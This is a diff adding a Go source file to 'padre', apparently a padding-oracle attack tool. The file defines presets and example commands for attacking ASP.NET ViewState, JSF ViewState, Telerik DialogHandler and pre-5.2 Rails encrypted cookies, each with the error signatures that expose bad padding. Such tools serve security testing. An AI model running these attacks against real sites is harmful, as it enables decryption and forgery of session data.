@@ -0,0 +1,142 @@
+package main
+
+import (
+	"flag"
+	"fmt"
+	"net/url"
+	"sort"
+	"strings"
+)
+
+// options that define position of cipher placeholder in request
+var placeholderOptions = []string{"u", "post", "cookie", "H"}
+
+// presets of well-known vulnerable stacks, they are explained along with other components
+var presets = []*component{
+	{
+		kind:    kindPreset,
+		name:    "aspnet-viewstate",
+		summary: "ASP.NET ViewState encrypted without MAC: cipher in cmd(__VIEWSTATE) form field, error page tells about invalid padding",
+		settings: map[string]interface{}{
+			"b":    16,
+			"e":    "b64",
+			"post": "__VIEWSTATE=$",
+			"err":  "Padding is invalid and cannot be removed",
+		},
+		examples: []string{
+			`padre -preset aspnet-viewstate -u "http://vulnerable.com/Default.aspx" "/wEPDwULLTE2MTY2ODcyMjlkZA=="`,
+		},
+	},
+	{
+		kind:    kindPreset,
+		name:    "jsf-viewstate",
+		summary: "Java Server Faces (MyFaces) client-side state encrypted with DES: cipher in cmd(javax.faces.ViewState) form field, bad padding raises server error",
+		settings: map[string]interface{}{
+			"b":          8,
+			"e":          "b64",
+			"post":       "javax.faces.ViewState=$",
+			"err-status": "500",
+		},
+		examples: []string{
+			`padre -preset jsf-viewstate -u "http://vulnerable.com/faces/index.xhtml" "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7"`,
+		},
+	},
+	{
+		kind:    kindPreset,
+		name:    "telerik",
+		summary: "Telerik UI for ASP.NET AJAX dialog handler: cipher in cmd(dp) URL parameter, error text tells about invalid padding",
+		settings: map[string]interface{}{
+			"b":   16,
+			"e":   "b64",
+			"u":   "Telerik.Web.UI.DialogHandler.aspx?dp=$",
+			"err": "Padding is invalid and cannot be removed",
+		},
+		examples: []string{
+			`padre -preset telerik -u "http://vulnerable.com/" "u7bvLewln6PJ670Gnj3hnE40L0SqG8e6"`,
+		},
+	},
+	{
+		kind:    kindPreset,
+		name:    "rails-cookie",
+		summary: "Encrypted session cookie of Ruby on Rails (before 5.2, AES-CBC): URL-safe base64 in cmd(_session_id) cookie, bad padding raises server error",
+		settings: map[string]interface{}{
+			"b":          16,
+			"e":          "b64",
+			"r":          "+-/_",
+			"cookie":     "_session_id=$",
+			"err-status": "500",
+		},
+		examples: []string{
+			`padre -preset rails-cookie -u "http://vulnerable.com/account" "u7bvLewln6PJ670Gnj3hnE40L0SqG8e6"`,
+		},
+	},
+}
+
+// applyPreset sets options of preset, that are not set yet.
+// position of placeholder is taken from preset only if no option has the placeholder already,
+// URL of preset is relative to the target URL
+func applyPreset(name string) error {
+	p := findComponent(kindPreset, strings.ToLower(name))
+	if p == nil {
+		names := make([]string, 0, len(presets))
+		for _, p := range presets {
+			names = append(names, p.name)
+		}
+		return fmt.Errorf("unknown preset %q (choose one of: %s)", name, strings.Join(names, ", "))
+	}
+
+	placeholderSet := false
+	for _, name := range placeholderOptions {
+		placeholderSet = placeholderSet || strings.Contains(flag.Lookup(name).Value.String(), "$")
+	}
+
+	settings := make(map[string]interface{}, len(p.settings))
+	for key, value := range p.settings {
+		if placeholderSet && isPlaceholderOption(key) {
+			continue
+		}
+		settings[key] = value
+	}
+
+	if path, ok := settings["u"]; ok {
+		delete(settings, "u")
+		if target := flag.Lookup("u").Value.String(); target != "" {
+			base, err := url.Parse(target)
+			if err != nil {
+				return err
+			}
+			rel, err := url.Parse(fmt.Sprint(path))
+			if err != nil {
+				return err
+			}
+			if err = flag.Set("u", base.ResolveReference(rel).String()); err != nil {
+				return err
+			}
+		}
+	}
+	return applyValues("preset "+p.name, settings)
+}
+
+func isPlaceholderOption(name string) bool {
+	for _, o := range placeholderOptions {
+		if o == name {
+			return true
+		}
+	}
+	return false
+}
+
+// preset settings as command line options, in stable order
+func presetOptions(settings map[string]interface{}) []string {
+	names := make([]string, 0, len(settings))
+	for name := range settings {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+
+	options := make([]string, 0, len(names))
+	for _, name := range names {
+		options = append(options, fmt.Sprintf("flag(-%s)\tcmd(%v)", name, settings[name]))
+	}
+	return options
+}